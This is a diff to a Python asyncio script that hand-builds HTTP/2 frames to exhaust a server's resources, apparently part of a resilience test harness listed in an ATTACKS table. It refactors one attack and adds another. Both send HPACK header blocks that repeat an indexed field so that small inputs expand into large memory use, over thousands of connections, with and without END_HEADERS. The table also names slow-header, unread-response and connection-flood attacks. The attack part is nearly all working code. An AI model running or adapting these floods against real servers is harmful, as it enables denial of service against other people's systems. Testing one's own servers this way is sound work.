@@ -124,38 +124,53 @@ def frame(kind, flags, stream, payload=b""):
     return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload
 
 
+def fields(host, target):
+    """Fields of a request: GET, http, a path and a host."""
+    target, host = target.encode(), host.encode()
+    return b"\x82\x86\x04" + bytes((len(target),)) + target + b"\x01" + bytes((len(host),)) + host
+
+
+async def ended_streams(reader, count):
+    """Reads frames until so many streams have an answer with its end."""
+    while count:
+        first = await reader.readexactly(9)
+        await reader.readexactly(int.from_bytes(first[:3]))
+        # DATA or HEADERS with END_STREAM.
+        count -= first[3] <= 1 and first[4] & 1
+
+
+async def after_an_answer(host, sent, act):
+    """Sends frames on a connection of HTTP/2 that has had an answer."""
+    reader, writer = await connect(host, "127.0.0.2")
+    with contextlib.suppress(OSError, asyncio.IncompleteReadError):
+        # SETTINGS; HEADERS with END_HEADERS and END_STREAM.
+        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + frame(1, 5, 1, fields(host, "/livez")))
+        await ended_streams(reader, 1)
+        writer.write(sent)
+        await act(reader)
+    writer.close()
+    await asyncio.sleep(1)
+
+
 async def blocks_without_ends(host, path):
     """The same over HTTP/2, where a byte of a header block that names a field once more makes a value of 72 bytes: blocks
     of two kilobytes, on connections that have had an answer. One that is refused comes again after a second."""
-
-    def fields(target):
-        target = target.encode()
-        # GET, http, a path and a host.
-        return b"\x82\x86\x04" + bytes((len(target),)) + target + b"\x01" + bytes((len(host),)) + host.encode()
-
-    # SETTINGS; HEADERS with END_HEADERS and END_STREAM.
-    answered = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + frame(1, 5, 1, fields("/livez"))
     # A field that is remembered, and named again and again; without END_HEADERS.
-    begun = frame(1, 1, 3, fields(path) + b"\x40\x01a\x00" + b"\xbe" * 1900)
+    begun = frame(1, 1, 3, fields(host, path) + b"\x40\x01a\x00" + b"\xbe" * 1900)
 
-    async def one(_):
-        reader, writer = await connect(host, "127.0.0.2")
-        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
-            writer.write(answered)
-            is_end = False
-            while not is_end:
-                first = await reader.readexactly(9)
-                await reader.readexactly(int.from_bytes(first[:3]))
-                # DATA with END_STREAM.
-                is_end = first[3] == 0 and first[4] & 1
-            writer.write(begun)
-            # Until it is refused.
-            while await reader.read(1 << 12):
-                pass
-        writer.close()
-        await asyncio.sleep(1)
+    async def refused(reader):
+        while await reader.read(1 << 12):
+            pass
 
-    await many(6000, one)
+    await many(6000, lambda _: after_an_answer(host, begun, refused))
+
+
+async def complete_blocks(host, path):
+    """64 such blocks with their ends at once on each connection, again and again."""
+    first = frame(1, 5, 3, fields(host, path) + b"\x40\x01a\x00" + b"\xbe" * 1900)
+    others = (frame(1, 5, 2 * number + 3, fields(host, path) + b"\xbe" * 1900) for number in range(1, 64))
+    blocks = first + b"".join(others)
+    await many(500, lambda _: after_an_answer(host, blocks, lambda reader: ended_streams(reader, 64)))
 
 
 async def unread_answers(host, path):
@@ -392,6 +407,7 @@ ATTACKS = {
     "1,000 requests with big heads that do not end": big_heads,
     "6,000 heads of 63 KiB without their ends": heads_without_ends,
     "6,000 header blocks of HTTP/2 without their ends": blocks_without_ends,
+    "complete header blocks of HTTP/2 on 500 connections": complete_blocks,
     "150 connections that read no answers": unread_answers,
     "12,000 connections of one address": connections,
     "sessions without end": sessions,
